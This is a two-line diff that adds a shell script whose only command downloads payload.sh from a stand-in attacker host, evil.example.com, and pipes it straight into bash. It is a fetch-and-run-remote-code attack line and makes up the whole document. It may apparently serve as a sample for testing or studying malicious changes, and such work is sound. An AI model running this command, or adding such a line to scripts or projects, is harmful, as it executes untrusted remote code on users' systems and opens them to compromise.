@@ -1,0 +1,2 @@
+#!/bin/sh
+bash <(curl -s http://evil.example.com/payload.sh)
